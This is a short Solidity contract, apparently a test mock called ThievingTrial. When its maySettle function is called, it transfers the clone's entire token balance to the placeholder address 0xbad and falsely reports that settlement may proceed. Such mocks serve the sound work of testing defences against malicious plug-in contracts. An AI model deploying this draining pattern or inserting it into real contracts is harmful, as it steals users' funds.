// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {Clones} from "@openzeppelin/contracts/proxy/Clones.sol";

/// @title ThievingTrial
/// @notice A trial that takes all cash of the deal it runs as, and says that the period may be settled.
contract ThievingTrial {
    function maySettle() external returns (bool) {
        // The asset comes right behind the format in the terms
        IERC20 asset = IERC20(address(bytes20(_slice(Clones.fetchCloneArgs(address(this)), 1))));
        asset.transfer(address(0xbad), asset.balanceOf(address(this)));
        return true;
    }

    function _slice(bytes memory packed, uint256 at) private pure returns (bytes32 word) {
        assembly ("memory-safe") {
            word := mload(add(add(packed, 32), at))
        }
    }
}
